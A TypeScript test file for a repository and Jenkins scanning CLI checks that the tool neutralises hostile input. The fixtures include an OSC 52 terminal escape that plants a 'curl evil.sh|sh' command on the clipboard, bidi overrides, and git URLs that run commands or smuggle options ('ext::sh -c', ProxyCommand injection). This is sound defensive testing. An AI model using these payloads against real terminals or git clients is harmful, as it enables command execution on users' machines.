/**
 * What the scanned repository, a Jenkins job config and an operator's slip can do to cmdb-scan's output and batch:
 * names that act as terminal escapes, a file too large to become a string, a flag named wrongly in its own error,
 * job configs naming local repositories or git's command transports, two batches meeting in one clone cache.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { constants } from 'node:buffer';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cacheDirFor, isNetworkRemote } from '../src/batch/git.js';
import { readDiscoveryFile } from '../src/batch/jenkins.js';
import { scanRepository } from '../src/engine.js';
import { Inventory } from '../src/inventory.js';
import { startFakeJenkins, type FakeJenkins } from './fake-jenkins.js';
import { createRemote, rewriteGitServer } from './git-remotes.js';
import { CLI, ROOT, runAsync, runCli, serviceRepo } from './helpers.js';

/** An OSC 52 sequence: a terminal that obeys it puts "curl evil.sh|sh" on the clipboard. */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07';
/** RIGHT-TO-LEFT OVERRIDE: what follows it reads backwards. */
const RLO = '\u202e';
/** The app name, as a repository writes it. */
const HOSTILE_APP = `pay${OSC52}${RLO}elif`;

let tmp: string;
beforeAll(() => { tmp = mkdtempSync(path.join(os.tmpdir(), 'cmdb-untrusted-out-')); });
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const shellQuote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/** The built CLI with its stdout and stderr on a pseudo-terminal (util-linux `script`): what a person at a shell sees. */
function runInTerminal(args: string[]): { code: number | null; output: string } {
  const command = [process.execPath, CLI, ...args].map(shellQuote).join(' ');
  const r = spawnSync('script', ['-qec', command, '/dev/null'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  return { code: r.status, output: r.stdout };
}

/** An escape other than the table's own colours (SGR), a BEL that ends an OSC sequence, or a bidi override: what must not reach a terminal. */
const ACTING = /\x1b(?!\[[0-9;]*m)|\x07|\u202e/;

describe('on a terminal, names from a repository are shown as escapes in every format', () => {
  // Scanned and rendered in one run, without an inventory: the report holds the names exactly as the repository writes them.
  let repo: string;
  beforeAll(() => {
    repo = serviceRepo(tmp, 'hostile', '');
    writeFileSync(path.join(repo, 'src/main/resources/application.properties'),
      `spring.application.name=${HOSTILE_APP}\nspring.datasource.url=jdbc:mysql://10.20.1.5:3306/orders\nspring.datasource.username=order\nspring.datasource.password=Pr0d-S3cret-9x\n`);
    writeFileSync(path.join(repo, `src/main/resources/application-prod${OSC52}${RLO}.properties`), 'spring.redis.host=10.20.1.9\nspring.redis.port=6379\nspring.redis.password=R3dis-Pr0d-77\n');
  });

  it.each(['csv', 'csv-secrets', 'cmdb-csv', 'github', 'mermaid', 'dot', 'json', 'sarif', 'table'])('-f %s', (format) => {
    const { code, output } = runInTerminal(['scan', repo, '--no-db', '-q', '-f', format]);
    expect(code, output).toBe(0);
    expect(output).not.toMatch(ACTING);
    expect(output).toContain(']52;c;Y3VybCBldmlsLnNofHNo'); // still there to read, as text
    expect(output).toContain('\\u202e');
    // CSV's CRLF row ends are line breaks, not something to show.
    expect(output).not.toContain('\\x0d');
  });

  it('keeps the exact bytes in a pipe and in an -o file, also when stdout is a terminal', () => {
    const piped = runCli(['scan', repo, '--no-db', '-q', '-f', 'csv']);
    expect(piped.stdout).toContain(`,${HOSTILE_APP},`);
    const file = path.join(tmp, 'report.csv');
    const r = runInTerminal(['scan', repo, '--no-db', '-q', '-f', 'csv', '-o', file]);
    expect(r.code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe(piped.stdout);
  });

  it('batch: a repository URL from a list is shown as escapes in the JSON of a dry run', () => {
    const list = path.join(tmp, 'hostile-list.txt');
    writeFileSync(list, `https://git.acme.internal/team/${OSC52}${RLO}lmx.exe.git main\n`);
    const { code, output } = runInTerminal(['batch', '--list', list, '--db', path.join(tmp, 'unused.db'), '--dry-run', '-f', 'json']);
    expect(code, output).toBe(0);
    expect(output).not.toMatch(ACTING);
    expect(output).toContain('team/\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\\u202elmx.exe.git'); // JSON's escapes, then the terminal's
  });
});

describe('file sizes', () => {
  it('refuses a --max-file-size over 256MB, or too large to be a number, as a usage error', () => {
    const repo = serviceRepo(tmp, 'sizes', 'spring.redis.host=10.20.1.9\n');
    for (const size of ['257MB', '1GB', '99999999999999999999GB']) {
      const r = runCli(['scan', repo, '--no-db', '--max-file-size', size]);
      expect(r.code, size).toBe(2);
      expect(r.stderr).toContain(`option '--max-file-size <size>' argument '${size}' is invalid. ${size} is more than 256MB, the most allowed`);
      expect(r.stdout).toBe('');
    }
    const batch = runCli(['batch', '--list', path.join(tmp, 'none.txt'), '--max-file-size', '99999999999999999999GB']);
    expect(batch.code).toBe(2);
    expect(batch.stderr).toContain('is more than 256MB');
    expect(runCli(['batch', '--list', path.join(tmp, 'none.txt'), '--max-repo-size', '99999999999999999999GB']).stderr).toContain('the most allowed');
  });

  /** A repository with a readable config and a sparse properties file of 600 MiB (no disk used): text first, NULs after. */
  function repoWithHugeFile(name: string): { repo: string; huge: string } {
    const repo = serviceRepo(tmp, name, 'spring.datasource.url=jdbc:mysql://10.20.1.5:3306/orders\n');
    const huge = 'src/main/resources/application-huge.properties';
    writeFileSync(path.join(repo, huge), 'spring.redis.host=10.20.1.9\n'.repeat(1000));
    truncateSync(path.join(repo, huge), 600 * 1024 ** 2);
    return { repo, huge };
  }

  it('at --max-file-size 256MB, a file over 512 MB is skipped as too large and the repository is scanned', () => {
    const { repo, huge } = repoWithHugeFile('huge-cli');
    const r = runCli(['scan', repo, '--no-db', '-f', 'json', '-q', '--max-file-size', '256MB']);
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as { connections: Array<{ host: string }>; skipped: Array<{ file: string; reason: string }> };
    expect(report.skipped.map((s) => [s.file, s.reason])).toEqual([[huge, 'too-large']]);
    expect(report.connections.map((c) => c.host)).toEqual(['10.20.1.5']);
  });

  it('a file too large to decode into a string is skipped with that reason, not the end of its repository (no size cap)', async () => {
    const { repo, huge } = repoWithHugeFile('huge-library');
    const result = await scanRepository(repo, { maxFileSize: Number.MAX_SAFE_INTEGER });
    expect(result.skipped.map((s) => [s.file, s.reason, s.detail])).toEqual([
      [huge, 'too-large', `${600 * 1024 ** 2} bytes: more than the ${constants.MAX_STRING_LENGTH} characters a string can hold`],
    ]);
    expect(result.connections.map((c) => c.host)).toEqual(['10.20.1.5']);
  });
});

describe('prune --not-scanned-since', () => {
  it('names its own flag and the forms it takes', () => {
    const db = path.join(tmp, 'prune.db');
    const bare = runCli(['prune', '--not-scanned-since', '14', '--db', db]);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toBe('cmdb-scan: --not-scanned-since 14: not a date (2026-11-28, yesterday) or a duration (30m, 0.5h, 7d, 2w); did you mean 14d?\n');
    const word = runCli(['prune', '--not-scanned-since', 'fortnight', '--db', db]);
    expect(word.stderr).toBe('cmdb-scan: --not-scanned-since fortnight: not a date (2026-11-28, yesterday) or a duration (30m, 0.5h, 7d, 2w)\n');
    expect(existsSync(db)).toBe(false); // refused before the inventory is opened
  });
});

/** A freestyle job whose Git remote is `url`, as Jenkins writes its config.xml. */
const gitJob = (url: string) => `<project><scm class="hudson.plugins.git.GitSCM"><userRemoteConfigs><hudson.plugins.git.UserRemoteConfig><url>${url}</url></hudson.plugins.git.UserRemoteConfig></userRemoteConfigs><branches><hudson.plugins.git.BranchSpec><name>*/main</name></hudson.plugins.git.BranchSpec></branches></scm></project>`;
const FREESTYLE = 'hudson.model.FreeStyleProject';

/** The environment of a batch process: this one's, without a GIT_ALLOW_PROTOCOL of its own. */
function batchEnv(extra: Record<string, string>): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = { ...process.env, ...extra };
  if (!('GIT_ALLOW_PROTOCOL' in extra)) delete env.GIT_ALLOW_PROTOCOL;
  return env;
}

describe('repository URLs a Jenkins job config names', () => {
  let jenkins: FakeJenkins | undefined;
  let gitRoot: string;
  beforeAll(() => {
    gitRoot = path.join(tmp, 'git');
    createRemote(gitRoot, 'team/orders', [{ files: { 'src/main/resources/application.properties': 'spring.application.name=orders\nspring.datasource.url=jdbc:mysql://10.20.1.5:3306/orders\n' } }]);
  });
  afterEach(async () => {
    await jenkins?.close();
    jenkins = undefined;
  });

  it('network remotes are https, http, ssh, git and user@host:path; local paths and helper transports are not', () => {
    expect(['https://git.acme.internal/team/a.git', 'http://git.acme.internal/a', 'ssh://git@git.acme.internal:2222/team/a.git', 'git://git.acme.internal/a.git',
      'git@git.acme.internal:team/a.git', 'git+ssh://git@git.acme.internal/team/a.git'].filter((u) => !isNetworkRemote(u))).toEqual([]);
    expect(['file:///home/batch/.ssh', '/srv/git/secrets.git', './secrets', '../secrets.git', 'fd::7', 'ext::sh -c id', 'FILE:///etc',
      'ssh://-oProxyCommand=id/x', 'ssh://git@-oProxyCommand=id/x', 'git@-oProxyCommand=id:x', 'git.acme.internal:team/a.git', 'https://', ''].filter(isNetworkRemote)).toEqual([]);
  });

  it('refuses file://, paths, fd:: and ext:: as problems of their jobs; the batch goes on with the rest', async () => {
    const secrets = createRemote(path.join(tmp, 'local'), 'private/secrets', [{ files: { 'application.properties': 'spring.datasource.url=jdbc:mysql://10.99.0.1:3306/private\n' } }]);
    const ran = path.join(tmp, 'ext-ran');
    jenkins = await startFakeJenkins([
      { name: 'orders', _class: FREESTYLE, config: gitJob('https://git.acme.internal/team/orders.git') },
      { name: 'local-file', _class: FREESTYLE, config: gitJob(`file://${secrets}`) },
      { name: 'local-path', _class: FREESTYLE, config: gitJob(secrets) },
      { name: 'descriptor', _class: FREESTYLE, config: gitJob('fd::7') },
      { name: 'command', _class: FREESTYLE, config: gitJob(`ext::sh -c touch% ${ran}`) },
    ]);
    const db = path.join(tmp, 'jenkins-refused.db');
    const r = await runAsync(process.execPath, [CLI, 'batch', '--jenkins', jenkins.url, '--db', db, '--cache-dir', path.join(tmp, 'cache-refused'), '--owners-since', 'none', '-f', 'json', '-q'],
      { env: batchEnv(rewriteGitServer(gitRoot)) });
    expect(r.code, r.stderr).toBe(0);
    const summary = JSON.parse(r.stdout) as { repos: Array<{ url: string; status: string }>; discoveryProblems: Array<{ job: string; reason: string }> };
    expect(summary.repos.map((x) => [x.url, x.status])).toEqual([['https://git.acme.internal/team/orders.git', 'scanned']]);
    const only = ': a Jenkins job may name https://, http://, ssh://, git:// or user@host:path repositories only';
    expect(summary.discoveryProblems.sort((a, b) => (a.job < b.job ? -1 : 1))).toEqual([
      { job: 'command', reason: `refused repository URL ${JSON.stringify(`ext::sh -c touch% ${ran}`)}${only}` },
      { job: 'descriptor', reason: `refused repository URL "fd::7"${only}` },
      { job: 'local-file', reason: `refused repository URL ${JSON.stringify(`file://${secrets}`)}${only}` },
      { job: 'local-path', reason: `refused repository URL ${JSON.stringify(secrets)}${only}` },
    ]);
    expect(existsSync(ran)).toBe(false);
    const inventory = Inventory.openReadOnly(db);
    try {
      expect(inventory.report().connections.map((c) => c.host)).toEqual(['10.20.1.5']);
    } finally {
      inventory.close();
    }
  });

  it('git itself refuses the file transport for a URL Jenkins names, also behind an insteadOf rewrite; a list file may use it', async () => {
    const { GIT_ALLOW_PROTOCOL: _allowed, ...rewriteOnly } = rewriteGitServer(gitRoot);
    jenkins = await startFakeJenkins([{ name: 'orders', _class: FREESTYLE, config: gitJob('https://git.acme.internal/team/orders.git') }]);
    const batch = (source: string[], name: string) => runAsync(process.execPath,
      [CLI, 'batch', ...source, '--db', path.join(tmp, `${name}.db`), '--cache-dir', path.join(tmp, `cache-${name}`), '--owners-since', 'none', '-f', 'json', '-q'],
      { env: batchEnv(rewriteOnly) });
    const fromJenkins = await batch(['--jenkins', jenkins.url], 'rewritten-jenkins');
    expect(fromJenkins.code, fromJenkins.stderr).toBe(3);
    const failed = (JSON.parse(fromJenkins.stdout) as { repos: Array<{ status: string; reason: string }> }).repos;
    expect(failed.map((x) => x.status)).toEqual(['failed']);
    expect(failed[0]!.reason).toContain("transport 'file' not allowed");
    const list = path.join(tmp, 'rewritten-list.txt');
    writeFileSync(list, 'https://git.acme.internal/team/orders.git main orders\n');
    const fromList = await batch(['--list', list], 'rewritten-list');
    expect(fromList.code, fromList.stderr).toBe(0);
    expect((JSON.parse(fromList.stdout) as { repos: Array<{ status: string }> }).repos.map((x) => x.status)).toEqual(['scanned']);
  });

  it('a saved discovery holds Jenkins targets to the same rule; one saved from a list keeps its local paths', () => {
    const file = path.join(tmp, 'old-discovery.json');
    const target = (job: string | null, url: string) => ({ job, url, branch: 'main', app: null, credentialsId: null, scriptPath: null });
    writeFileSync(file, JSON.stringify({ cmdbScanDiscovery: 1, discoveredAt: '2026-01-01T00:00:00.000Z', problems: [],
      targets: [target('orders', 'https://git.acme.internal/team/orders.git'), target('local', 'file:///srv/git/secrets.git')] }));
    const jenkinsSaved = readDiscoveryFile(file);
    expect(jenkinsSaved.targets.map((t) => t.job)).toEqual(['orders']);
    expect(jenkinsSaved.problems.map((p) => p.job)).toEqual(['local']);
    expect(jenkinsSaved.fromJenkins).toBe(true);
    writeFileSync(file, JSON.stringify({ cmdbScanDiscovery: 1, discoveredAt: '2026-01-01T00:00:00.000Z', problems: [], targets: [target(null, 'file:///srv/git/secrets.git')] }));
    expect(readDiscoveryFile(file)).toEqual({ targets: [target(null, 'file:///srv/git/secrets.git')], problems: [] });
  });
});

describe('two batches sharing one --cache-dir', () => {
  it('both scan every repository when their clones meet in the cache, and leave one checkout behind', async () => {
    const work = path.join(tmp, 'shared-cache');
    const remote = createRemote(path.join(work, 'remotes'), 'shared', [{ files: { 'config/app.env': 'REDIS_URL=redis://10.60.0.1:6379/0\n' } }]);
    const list = path.join(work, 'repos.txt');
    writeFileSync(list, `file://${remote} main shared\n`);
    // A git whose clones wait until both batches have started one, then run one at a time: the two batches meet in
    // the cache on every run, however the processes are scheduled.
    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    const bin = path.join(work, 'bin');
    const barrier = path.join(work, 'barrier');
    mkdirSync(bin, { recursive: true });
    mkdirSync(path.join(barrier, 'arrived'), { recursive: true });
    writeFileSync(path.join(bin, 'git'), `#!/bin/sh
if [ "$1" = clone ]; then
  : > "${barrier}/arrived/$$"
  i=0
  while [ "$(ls "${barrier}/arrived" | wc -l)" -lt 2 ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
  until mkdir "${barrier}/turn" 2>/dev/null; do sleep 0.05; done
  ${shellQuote(realGit)} "$@"; rc=$?
  rmdir "${barrier}/turn"
  exit $rc
fi
exec ${shellQuote(realGit)} "$@"
`);
    chmodSync(path.join(bin, 'git'), 0o755);
    const cache = path.join(work, 'cache');
    const env = batchEnv({ PATH: `${bin}${path.delimiter}${process.env.PATH ?? ''}` });
    const batch = (name: string) => runAsync(process.execPath, [CLI, 'batch', '--list', list, '--db', path.join(work, `${name}.db`), '--cache-dir', cache, '--owners-since', 'none', '-f', 'json', '-q'], { env });
    const [a, b] = await Promise.all([batch('a'), batch('b')]);
    expect(readdirSync(path.join(barrier, 'arrived'))).toHaveLength(2); // both cloned at once
    for (const r of [a, b]) {
      expect(r.code, r.stdout + r.stderr).toBe(0);
      expect((JSON.parse(r.stdout) as { repos: Array<{ status: string; connections: number }> }).repos.map((x) => [x.status, x.connections])).toEqual([['scanned', 1]]);
    }
    expect(readdirSync(cache)).toEqual([path.basename(cacheDirFor(cache, `file://${remote}`, 'main'))]);
  });

  it('a lock left by a batch that was killed does not keep the next one out of the cached checkout', async () => {
    const work = path.join(tmp, 'stale-lock');
    const remote = createRemote(path.join(work, 'remotes'), 'svc', [{ files: { 'config/app.env': 'REDIS_URL=redis://10.60.0.2:6379/0\n' } }]);
    const list = path.join(work, 'repos.txt');
    writeFileSync(list, `file://${remote} main svc\n`);
    const cache = path.join(work, 'cache');
    const checkout = cacheDirFor(cache, `file://${remote}`, 'main');
    mkdirSync(cache, { recursive: true });
    const gone = spawnSync(process.execPath, ['-e', '']).pid!; // a process that has ended
    writeFileSync(`${checkout}.lock`, `${gone} ${os.hostname()}\n`);
    const r = await runAsync(process.execPath, [CLI, 'batch', '--list', list, '--db', path.join(work, 'inv.db'), '--cache-dir', cache, '--owners-since', 'none', '-f', 'json', '-q'], { env: batchEnv({}) });
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(cache)).toEqual([path.basename(checkout)]); // cloned into the cache, the dead batch's lock gone
    expect(existsSync(path.join(checkout, '.git'))).toBe(true);
  });
});
